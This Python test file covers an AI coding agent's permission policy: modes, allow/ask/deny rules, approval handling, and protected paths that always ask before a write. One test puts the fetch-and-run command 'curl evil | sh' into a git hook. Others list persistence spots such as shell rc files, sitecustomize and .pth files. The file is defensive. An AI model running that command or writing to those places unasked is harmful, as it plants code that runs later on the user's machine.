"""The permission policy: modes, rules, safety paths, approvals (docs/tools.md, "Permission modes")."""

from __future__ import annotations

import asyncio
import os
import threading
from pathlib import Path

import pytest

from jupyter_agent.loop.permission_result import (
    PermissionAllow,
    PermissionAsk,
    PermissionDeny,
)
from jupyter_agent.permissions import ApprovalBroker, Permissions, Rule
from jupyter_agent.loop.tool import ToolContext
from jupyter_agent.tools import Edit, Glob, Grep, NotebookRestart, NotebookRun, Read, Write
from tests.tools.conftest import call_tool, text_of


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = Path(os.path.realpath(tmp_path)) / "ws"
    (root / "src").mkdir(parents=True)
    (root / "src" / "a.py").write_text("x = 1\n")
    (root / ".git").mkdir()
    (root / ".git" / "config").write_text("[core]\n")
    return root


def ctx_for(ws: Path, mode: str = "default", **rules) -> ToolContext:
    return ToolContext(cwd=ws, permissions=Permissions(mode=mode, cwd=ws, **rules))


async def decide(ctx: ToolContext, tool, raw: dict):
    return await ctx.permissions.check(tool, tool.Input.model_validate(raw), ctx)  # plan, then decide


def read_file(ctx, path: Path) -> None:
    from jupyter_agent.loop.tool import FileReadRecord
    from jupyter_agent.tools.fileio import content_hash

    ctx.read_file_state[str(path)] = FileReadRecord(str(path), path.stat().st_mtime_ns, content_hash(path.read_bytes()))


EDIT_A = {"file_path": "src/a.py", "old_string": "x = 1", "new_string": "x = 2"}


# --- modes ----------------------------------------------------------------------------------

async def test_default_mode_reads_run_and_edits_ask_with_a_diff(ws):
    ctx = ctx_for(ws)
    assert isinstance(await decide(ctx, Read(), {"file_path": "src/a.py"}), PermissionAllow)
    read_file(ctx, ws / "src" / "a.py")
    ask = await decide(ctx, Edit(), EDIT_A)
    assert isinstance(ask, PermissionAsk)
    assert "-x = 1\n+x = 2\n" in ask.diff and "--- a/src/a.py" in ask.diff
    assert ask.suggested_rules == ("Edit(src/**)",)


async def test_write_and_notebook_run_ask_too(ws):
    ctx = ctx_for(ws)
    ask = await decide(ctx, Write(), {"file_path": "new.txt", "content": "hello\n"})
    assert isinstance(ask, PermissionAsk) and "+hello" in ask.diff
    assert isinstance(await decide(ctx, NotebookRun(), {"notebook_path": "n.ipynb", "cell_id": "c1"}), PermissionAsk)


async def test_accept_edits_allows_edits_inside_but_not_runs_or_outside(ws, tmp_path):
    ctx = ctx_for(ws, "acceptEdits")
    read_file(ctx, ws / "src" / "a.py")
    assert isinstance(await decide(ctx, Edit(), EDIT_A), PermissionAllow)
    assert isinstance(await decide(ctx, NotebookRun(), {"notebook_path": "n.ipynb", "cell_id": "c1"}), PermissionAsk)
    outside = await decide(ctx, Write(), {"file_path": str(tmp_path / "x.txt"), "content": "x"})
    assert isinstance(outside, PermissionAsk) and "outside the working folders" in outside.message


async def test_plan_mode_refuses_writes_and_tells_the_model(ws):
    policy = Permissions(mode="plan", cwd=ws)
    ctx = ToolContext(cwd=ws, permissions=policy)
    assert isinstance(await decide(ctx, Grep(), {"pattern": "x"}), PermissionAllow)
    deny = await decide(ctx, Write(), {"file_path": "n.txt", "content": "x"})
    assert isinstance(deny, PermissionDeny) and "plan mode" in deny.message and not deny.interrupt
    assert "must not change anything" in policy.system_prompt_note()
    assert Permissions(mode="default").system_prompt_note() == ""


async def test_bypass_allows_everything_except_rules_and_safety_paths(ws, tmp_path, monkeypatch):
    ctx = ctx_for(ws, "bypassPermissions", deny=["Write(secrets/**)"], ask=["Edit(src/**)"])
    assert isinstance(await decide(ctx, Write(), {"file_path": str(tmp_path / "o.txt"), "content": "x"}),
                      PermissionAllow)
    assert isinstance(await decide(ctx, Write(), {"file_path": "secrets/k", "content": "x"}), PermissionDeny)
    assert isinstance(await decide(ctx, Edit(), EDIT_A), PermissionAsk)
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    for path in (".git/config", "proj/.ipython/profile_default/startup/x.py", ".jupyter/jupyter_server_config.py",
                 "~/.bashrc", "~/.zshrc", "~/.profile", "~/.config/fish/config.fish"):
        ask = await decide(ctx, Write(), {"file_path": path, "content": "evil"})
        assert isinstance(ask, PermissionAsk) and "protected path" in ask.message, path
    # Reading them is fine.
    assert isinstance(await decide(ctx, Read(), {"file_path": ".git/config"}), PermissionAllow)


async def test_a_symlink_cannot_hide_a_safety_path(ws):
    (ws / "innocent.txt").symlink_to(ws / ".git" / "config")
    ctx = ctx_for(ws, "bypassPermissions")
    ask = await decide(ctx, Write(), {"file_path": "innocent.txt", "content": "x"})
    assert isinstance(ask, PermissionAsk) and ".git/" in ask.message


async def test_only_a_rule_naming_the_safety_path_opens_it(ws):
    ctx = ctx_for(ws, "bypassPermissions", allow=["Write(.git/hooks/**)", "Edit(./**)", "Edit"])
    assert isinstance(await decide(ctx, Write(), {"file_path": ".git/hooks/pre-commit", "content": "x"}),
                      PermissionAllow)
    # Broad rules, like the one "Always allow" suggests for a file in the working folder, do not.
    assert isinstance(await decide(ctx, Write(), {"file_path": ".git/config", "content": "x"}), PermissionAsk)


# --- rules ----------------------------------------------------------------------------------

async def test_deny_beats_ask_beats_allow(ws):
    read_rule = "Read(src/**)"
    ctx = ctx_for(ws, allow=[read_rule], ask=[read_rule], deny=[read_rule])
    assert isinstance(await decide(ctx, Read(), {"file_path": "src/a.py"}), PermissionDeny)
    ctx = ctx_for(ws, allow=[read_rule], ask=[read_rule])
    assert isinstance(await decide(ctx, Read(), {"file_path": "src/a.py"}), PermissionAsk)
    ctx = ctx_for(ws, allow=["Edit(src/**)"])
    read_file(ctx, ws / "src" / "a.py")
    assert isinstance(await decide(ctx, Edit(), EDIT_A), PermissionAllow)


async def test_rule_families_and_bare_tool_rules(ws):
    ctx = ctx_for(ws, deny=["Read(src/**)"], allow=["Edit"])
    assert isinstance(await decide(ctx, Grep(), {"pattern": "x", "path": "src"}), PermissionDeny)
    assert isinstance(await decide(ctx, Glob(), {"pattern": "*", "path": "src"}), PermissionDeny)
    assert isinstance(await decide(ctx, Write(), {"file_path": "new.txt", "content": "x"}), PermissionAllow)
    assert isinstance(await decide(ctx, NotebookRun(), {"notebook_path": "n.ipynb", "cell_id": "a"}), PermissionAsk)


@pytest.mark.parametrize("pattern,path,expected", [
    ("src/**", "src/a.py", True), ("src/**", "srcx/a.py", False), ("src", "src/deep/a.py", True),
    ("*.py", "a.py", True), ("*.py", "src/a.py", False), ("**/*.py", "src/a.py", True),
    ("src/*.{py,md}", "src/b.md", True),
])
async def test_rule_globs_are_paths_relative_to_the_working_folder(ws, pattern, path, expected):
    ctx = ctx_for(ws, deny=[f"Write({pattern})"])
    denied = isinstance(await decide(ctx, Write(), {"file_path": path, "content": "x"}), PermissionDeny)
    assert denied is expected


async def test_absolute_and_home_rule_patterns(ws, tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    ctx = ctx_for(ws, allow=[f"Read({tmp_path}/data/**)"], deny=["Read(~/private/**)"])
    (tmp_path / "data").mkdir()
    assert isinstance(await decide(ctx, Read(), {"file_path": str(tmp_path / "data" / "x.csv")}), PermissionAllow)
    assert isinstance(await decide(ctx, Read(), {"file_path": "~/private/key"}), PermissionDeny)


def test_bad_rules_and_modes_are_refused_with_a_reason():
    for bad in ("", "Edit(", "Edit()", "(x)", "Ed it"):
        with pytest.raises(ValueError, match="Invalid permission rule"):
            Rule.parse(bad)
    with pytest.raises(ValueError, match="Unknown permission mode"):
        Permissions(mode="yolo")
    assert str(Rule.parse(" Edit( src/** ) ")) == "Edit(src/**)"


async def test_session_rules_and_would_allow(ws):
    policy = Permissions(cwd=ws)
    ctx = ToolContext(cwd=ws, permissions=policy)
    raw = {"file_path": "src/new.py", "content": "y\n"}
    assert isinstance(await decide(ctx, Write(), raw), PermissionAsk)
    assert not await policy.would_allow("Write", raw)
    policy.add_session_rules(("Edit(src/**)",))
    assert await policy.would_allow("Write", raw)
    assert not await policy.would_allow("Write", {"file_path": "other/new.py", "content": "y"})


async def test_a_pattern_rule_matches_what_a_pathless_tool_names(ws):
    """A tool that names no path says what ``Tool(pattern)`` rules match (``rule_content``);
    without it such rules never cover the call."""
    from jupyter_agent.loop.tool import Tool, ToolInput

    class FetchInput(ToolInput):
        url: str

    class Fetch(Tool):
        name, description, Input = "Fetch", "fetch a URL", FetchInput

        def rule_content(self, input):
            return input.url

    class Silent(Fetch):
        name = "Silent"

        def rule_content(self, input):
            return None

    ctx = ctx_for(ws, allow=["Fetch(https://docs.example/*)", "Silent(*)"], deny=["Fetch(http://*)"])
    assert isinstance(await decide(ctx, Fetch(), {"url": "https://docs.example/a"}), PermissionAllow)
    assert isinstance(await decide(ctx, Fetch(), {"url": "https://other.example/a"}), PermissionAsk)
    assert isinstance(await decide(ctx, Fetch(), {"url": "http://docs.example/a"}), PermissionDeny)
    assert isinstance(await decide(ctx, Silent(), {"url": "https://docs.example/a"}), PermissionAsk)


async def test_a_policy_that_only_decides_gets_safe_defaults(ws):
    """The tool-to-policy contract is ``PermissionPolicy``: a policy that implements only
    ``decide`` hides no file from Glob or Grep, keeps calls in the working folder, and
    releases no queued ask; ``query()`` refuses anything else, saying what to do."""
    from jupyter_agent import query
    from jupyter_agent.loop.tool import PermissionPolicy

    class Everything(PermissionPolicy):
        async def decide(self, tool, input, context, prepared):
            return PermissionAllow()

    policy = Everything()
    ctx = ToolContext(cwd=ws, permissions=policy)
    assert policy.allowed_roots(ctx) == [ws] and not policy.is_read_denied(ws / "src" / "a.py", ctx)
    assert not await policy.would_allow("Write", {"file_path": "x", "content": ""}, ctx)
    assert policy.system_prompt_note() == "" and policy.mode is None
    assert "src/a.py" in text_of(await call_tool(ctx, "Glob", {"pattern": "**/*.py"}))
    assert "src/a.py" in text_of(await call_tool(ctx, "Grep", {"pattern": "x = 1"}))

    class DuckTyped:
        async def decide(self, tool, input, context, prepared):
            return PermissionAllow()

    with pytest.raises(TypeError, match="PermissionPolicy.*subclass it"):
        query("hi", model="claude-test", permissions=DuckTyped(), cwd=ws)


# --- approvals ------------------------------------------------------------------------------

async def test_no_ui_means_ask_becomes_a_clear_deny(ws):
    ctx = ctx_for(ws)
    result = await call_tool(ctx, "Write", {"file_path": "new.txt", "content": "x"})
    assert result["is_error"] and "needs approval" in result["content"] and not (ws / "new.txt").exists()


async def test_broker_request_carries_what_a_person_needs_and_allow_runs_the_call(ws):
    seen = []
    broker = ApprovalBroker(on_request=lambda req: (seen.append(req), req.allow()))
    ctx = ctx_for(ws)
    result = await call_tool(ctx, "Write", {"file_path": "new.txt", "content": "hello\n"}, can_use_tool=broker)
    assert not result.get("is_error") and (ws / "new.txt").read_text() == "hello\n"
    [request] = seen
    assert request.tool_name == "Write" and request.input["file_path"] == "new.txt"
    assert "+hello" in request.diff and "Write wants to create new.txt" in request.message
    assert broker.pending == []


async def test_deny_without_feedback_interrupts_with_feedback_informs(ws):
    ctx = ctx_for(ws)
    broker = ApprovalBroker(on_request=lambda req: req.deny())
    result = await call_tool(ctx, "Write", {"file_path": "n.txt", "content": "x"}, can_use_tool=broker)
    assert result["is_error"] and "doesn't want to proceed" in result["content"] and not (ws / "n.txt").exists()
    request_deny = []
    broker = ApprovalBroker(on_request=lambda req: (request_deny.append(req), req.deny("use tabs, not spaces")))
    result = await call_tool(ctx, "Write", {"file_path": "n.txt", "content": "x"}, can_use_tool=broker)
    assert "use tabs, not spaces" in result["content"]
    decision = await request_deny[0]
    assert isinstance(decision, PermissionDeny) and not decision.interrupt


async def test_interrupting_deny_flags_the_run(ws):
    from jupyter_agent.loop.tool_execution import ToolRunEnv, execute_tool_call
    from tests.tools.conftest import TOOLS

    ctx = ctx_for(ws)
    env = ToolRunEnv(tools_by_name=dict(TOOLS), context=ctx, can_use_tool=ApprovalBroker(on_request=lambda r: r.deny()))
    await execute_tool_call({"type": "tool_use", "id": "t1", "name": "Write",
                             "input": {"file_path": "n.txt", "content": "x"}}, env)
    assert env.control.interrupted


async def test_allow_always_adds_a_session_rule_and_releases_covered_pending_requests(ws):
    policy = Permissions(cwd=ws)
    ctx = ToolContext(cwd=ws, permissions=policy)
    broker = ApprovalBroker(policy)
    calls = [
        call_tool(ctx, "Write", {"file_path": "src/one.py", "content": "1\n"}, broker, "t1"),
        call_tool(ctx, "Write", {"file_path": "src/two.py", "content": "2\n"}, broker, "t2"),
        call_tool(ctx, "Write", {"file_path": "docs/three.md", "content": "3\n"}, broker, "t3"),
    ]
    tasks = [asyncio.ensure_future(c) for c in calls]
    for _ in range(100):
        if len(broker.pending) == 3:
            break
        await asyncio.sleep(0.01)
    first = next(r for r in broker.pending if r.input["file_path"] == "src/one.py")
    assert first.suggested_rules == ("Edit(src/**)",)
    first.allow_always()
    done, _ = await asyncio.wait(tasks[:2], timeout=2)
    assert len(done) == 2 and all(not t.result().get("is_error") for t in done)
    assert (ws / "src" / "two.py").read_text() == "2\n"
    assert [r.input["file_path"] for r in broker.pending] == ["docs/three.md"]  # not covered: still asks
    broker.pending[0].deny("not docs")
    assert "not docs" in (await tasks[2])["content"]
    assert await policy.would_allow("Write", {"file_path": "src/later.py", "content": ""})


async def test_a_ui_thread_can_answer(ws):
    ctx = ctx_for(ws)

    def on_request(request):
        threading.Thread(target=request.allow).start()  # as a widget callback on another thread

    broker = ApprovalBroker(on_request=on_request)
    result = await call_tool(ctx, "Write", {"file_path": "t.txt", "content": "t"}, broker)
    assert not result.get("is_error") and (ws / "t.txt").read_text() == "t"


async def test_awaiting_a_request_wakes_on_the_answer_with_no_polling(monkeypatch):
    """The wait is the Future itself: no periodic wake-ups while nobody clicks, an answer
    from another thread (a JupyterLab subshell) wakes it, and cancelling the wait (what
    the loop's Stop does to the tool call) cancels the request, so a UI learns of it."""
    polls, real_wait, real_sleep = [], asyncio.wait, asyncio.sleep

    def counting_wait(*args, **kwargs):
        polls.append(("wait", kwargs.get("timeout")))
        return real_wait(*args, **kwargs)

    def counting_sleep(delay, *args, **kwargs):
        polls.append(("sleep", delay))
        return real_sleep(delay, *args, **kwargs)

    seen = []
    broker = ApprovalBroker(on_request=seen.append)
    waiting = asyncio.ensure_future(broker("Write", {"file_path": "x"}, PermissionAsk("Write x")))
    await real_sleep(0)
    monkeypatch.setattr(asyncio, "wait", counting_wait)
    monkeypatch.setattr(asyncio, "sleep", counting_sleep)
    await real_sleep(0.1)
    assert seen and not waiting.done() and polls == []
    clicker = threading.Thread(target=seen[0].allow)
    clicker.start()
    clicker.join()
    assert await asyncio.wait_for(waiting, 2) == PermissionAllow()
    assert polls == [] and broker.pending == []

    stopped = asyncio.ensure_future(broker("Write", {"file_path": "y"}, PermissionAsk("Write y")))
    await real_sleep(0)
    stopped.cancel()
    await asyncio.gather(stopped, return_exceptions=True)
    assert seen[1].future.cancelled() and broker.pending == [] and polls == []


async def test_stopping_a_run_that_waits_for_an_approval_ends_it_at_once(fake_api_env, tmp_path):
    """run.stop() reaches a pending approval without any polling: the abort cancels the
    tool call, whose wait cancels the request; the call gets its one tool_result and the
    run ends ``aborted_tools`` with nothing written."""
    from jupyter_agent import query
    from jupyter_agent.testing import response, tool_use

    fake_api_env.add(response(tool_use("Write", {"file_path": str(tmp_path / "w.txt"), "content": "x"})))
    seen = []
    run = query("Write it", cwd=str(tmp_path), can_use_tool=ApprovalBroker(on_request=seen.append))
    ending = asyncio.ensure_future(run.wait())
    # Wait for the ask and for the response's end: the ask may come while the stream is still
    # ending (a loaded machine), and a stop then is a stop of the streaming, not of the tools.
    for _ in range(3000):  # (the first request imports the SDK: slow on a loaded machine)
        if (seen and run.record.phase == "tools") or ending.done():
            break
        await asyncio.sleep(0.01)
    assert seen and not ending.done() and run.record.phase == "tools"
    run.stop()
    terminal = await asyncio.wait_for(ending, 10)
    assert terminal.reason.value == "aborted_tools" and seen[0].future.cancelled()
    results = [b for m in run.state.messages if isinstance(m["content"], list)
               for b in m["content"] if b.get("type") == "tool_result"]
    assert len(results) == 1 and not (tmp_path / "w.txt").exists()


async def test_allow_always_without_a_policy_answers_only_that_request():
    broker = ApprovalBroker(on_request=lambda request: None)
    asks = [asyncio.ensure_future(broker("Write", {"file_path": name}, PermissionAsk("w"))) for name in "ab"]
    for _ in range(100):
        if len(broker.pending) == 2:
            break
        await asyncio.sleep(0.01)
    broker.pending[0].allow_always()
    assert (await asyncio.wait_for(asks[0], 2)).always == ("Write",)  # no suggestion: the tool's name
    await broker.drain()
    await asyncio.sleep(0.05)
    assert not asks[1].done()
    broker.pending[0].deny()
    assert (await asyncio.wait_for(asks[1], 2)).interrupt



async def test_the_broker_is_the_one_registry_keyed_by_id_and_by_call():
    """Every face of an approval (a cell's card, the panel) reads what waits from the broker:
    found by its id or its call's id without a search, and gone from there the moment it is
    answered or cancelled, already when a face's own callback on its future runs."""
    seen, registry_at_settle = [], []
    broker = ApprovalBroker(on_request=seen.append)
    asks = [asyncio.ensure_future(broker("Write", {"file_path": n}, PermissionAsk("w", tool_use_id=call)))
            for n, call in (("a", "toolu_a"), ("b", "toolu_b"), ("c", ""))]
    for _ in range(100):
        if len(seen) == 3:
            break
        await asyncio.sleep(0.01)
    a, b, c = seen
    assert broker.pending == [a, b, c] and len({a.id, b.id, c.id}) == 3
    assert broker.get(b.id) is b and broker.for_call("toolu_b") is b and broker.get(c.id) is c
    assert broker.for_call("") is None and broker.get(max(a.id, b.id, c.id) + 1) is None
    b.future.add_done_callback(lambda _f: registry_at_settle.append((broker.get(b.id), broker.pending)))
    b.answer("deny", "not b")
    assert "not b" in (await asyncio.wait_for(asks[1], 2)).message
    assert registry_at_settle == [(None, [a, c])]
    assert broker.get(b.id) is None and broker.for_call("toolu_b") is None and broker.pending == [a, c]
    asks[0].cancel()  # the loop's Stop cancels the wait
    await asyncio.gather(asks[0], return_exceptions=True)
    assert broker.for_call("toolu_a") is None and broker.pending == [c]
    c.allow()
    assert await asyncio.wait_for(asks[2], 2) == PermissionAllow() and broker.pending == []

# --- safety paths (findings 8.2 and 8.6) ---------------------------------------------------

async def test_a_rule_whose_text_merely_contains_a_safety_name_does_not_release_it(ws):
    (ws / "me.github.io" / ".git" / "hooks").mkdir(parents=True)
    ctx = ctx_for(ws)
    ctx.permissions.add_session_rules(["Edit(me.github.io/**)"])  # "Always allow" on an edit there
    hook = {"file_path": "me.github.io/.git/hooks/pre-commit", "content": "curl evil | sh"}
    ask = await decide(ctx, Write(), hook)
    assert isinstance(ask, PermissionAsk) and "protected path" in ask.message
    ctx = ctx_for(ws, "bypassPermissions", allow=["Edit(docs.github/**)"])
    ask = await decide(ctx, Write(), {"file_path": "docs.github/.git/config", "content": "x"})
    assert isinstance(ask, PermissionAsk) and "protected path" in ask.message
    # A rule that names the place component by component still releases it.
    ctx = ctx_for(ws, allow=["Write(me.github.io/.git/hooks/**)"])
    assert isinstance(await decide(ctx, Write(), hook), PermissionAllow)


@pytest.fixture
def home(tmp_path, monkeypatch) -> Path:
    folder = Path(os.path.realpath(tmp_path)) / "home"
    folder.mkdir()
    monkeypatch.setenv("HOME", str(folder))
    return folder


SAFETY_PATHS = ["~/.bash_aliases", "~/.config/git/config", "~/.config/fish/functions/ls.fish",
                "~/.local/lib/python3.11/site-packages/usercustomize.py", "proj/sitecustomize.py",
                "~/.local/lib/python3.11/site-packages/evil.pth", "~/.local/bin/python", "~/bin/ls",
                "bare.git/hooks/post-receive", "bare.git/config", ".husky/pre-commit", ".envrc",
                "sub/.githooks/pre-push", ".hg/hgrc"]


@pytest.mark.parametrize("path", SAFETY_PATHS)
async def test_places_that_change_what_runs_next_ask_even_in_bypass(ws, home, path):
    bare = ws / "bare.git"
    for name in ("objects", "refs", "hooks"):
        (bare / name).mkdir(parents=True)
    (bare / "HEAD").write_text("ref: refs/heads/main\n")
    ctx = ctx_for(ws, "bypassPermissions", allow=["Edit(./**)", "Edit(~/**)"])
    ask = await decide(ctx, Write(), {"file_path": path, "content": "evil"})
    assert isinstance(ask, PermissionAsk) and "protected path" in ask.message, path
    # Ordinary files beside them do not ask.
    assert isinstance(await decide(ctx, Write(), {"file_path": "~/notes.txt", "content": "x"}), PermissionAllow)
    assert isinstance(await decide(ctx, Write(), {"file_path": "bare.txt", "content": "x"}), PermissionAllow)


async def test_safety_names_ignore_case_where_the_file_system_does(ws, monkeypatch):
    from jupyter_agent import safety

    ctx = ctx_for(ws, "bypassPermissions")
    write = {"file_path": ".GIT/hooks/pre-commit", "content": "x"}
    monkeypatch.setattr(safety, "CASE_INSENSITIVE", True)
    assert isinstance(await decide(ctx, Write(), write), PermissionAsk)
    monkeypatch.setattr(safety, "CASE_INSENSITIVE", False)  # Linux: .GIT is another folder
    assert isinstance(await decide(ctx, Write(), write), PermissionAllow)


async def test_write_rules_cover_edit_too(ws):
    (ws / "pyproject.toml").write_text("[project]\n")
    edit = {"file_path": "pyproject.toml", "old_string": "[project]", "new_string": "[tool]"}
    for rules, expected in (({"ask": ["Write(**/*.toml)"]}, PermissionAsk),
                            ({"deny": ["Write(pyproject.toml)"]}, PermissionDeny),
                            ({"deny": ["NotebookEdit(pyproject.toml)"]}, PermissionDeny)):
        ctx = ctx_for(ws, "acceptEdits", **rules)
        read_file(ctx, ws / "pyproject.toml")
        assert isinstance(await decide(ctx, Edit(), edit), expected), rules
    ctx = ctx_for(ws, deny=["Grep(src/**)"])  # the Read family stays one-way: a Grep rule is about Grep
    assert isinstance(await decide(ctx, Read(), {"file_path": "src/a.py"}), PermissionAllow)


async def test_notebook_run_asks_in_every_mode_unless_a_rule_allows_it(ws):
    run = {"notebook_path": "n.ipynb", "cell_id": "c1"}
    for mode in ("default", "acceptEdits", "bypassPermissions"):
        ask = await decide(ctx_for(ws, mode), NotebookRun(), run)
        assert isinstance(ask, PermissionAsk) and "Running code always asks" in ask.message, mode
    allowed = ctx_for(ws, "bypassPermissions", allow=["NotebookRun(n.ipynb)"])
    assert isinstance(await decide(allowed, NotebookRun(), run), PermissionAllow)
    assert isinstance(await decide(ctx_for(ws, "plan"), NotebookRun(), run), PermissionDeny)


async def test_a_kernel_restart_asks_in_every_mode_and_says_it_is_a_restart(ws):
    restart = {"notebook_path": "n.ipynb"}
    for mode in ("default", "acceptEdits", "bypassPermissions"):
        ask = await decide(ctx_for(ws, mode), NotebookRestart(), restart)
        assert isinstance(ask, PermissionAsk) and "Restarting a kernel always asks" in ask.message, mode
        assert "Running code" not in ask.message
    allowed = ctx_for(ws, "bypassPermissions", allow=["NotebookRestart(n.ipynb)"])
    assert isinstance(await decide(allowed, NotebookRestart(), restart), PermissionAllow)


async def test_a_request_is_answered_by_the_word_every_front_sends():
    """Cards, the side panel, the lessons' widget and the terminal answer through
    ``request.answer(word, feedback)``: one mapping, and an unknown word answers nothing."""
    seen = []
    broker = ApprovalBroker(on_request=seen.append)
    asks = [asyncio.ensure_future(broker("Write", {"file_path": n}, PermissionAsk("w"))) for n in "abc"]
    for _ in range(100):
        if len(seen) == 3:
            break
        await asyncio.sleep(0.01)
    with pytest.raises(ValueError, match="use allow, always or deny"):
        seen[0].answer("maybe")
    assert not seen[0].done
    seen[0].answer("allow")
    seen[1].answer("always")
    seen[2].answer("deny", "use tabs")
    first, second, third = [await asyncio.wait_for(a, 2) for a in asks]
    assert first == PermissionAllow() and second.always == ("Write",)
    assert isinstance(third, PermissionDeny) and "use tabs" in third.message and not third.interrupt
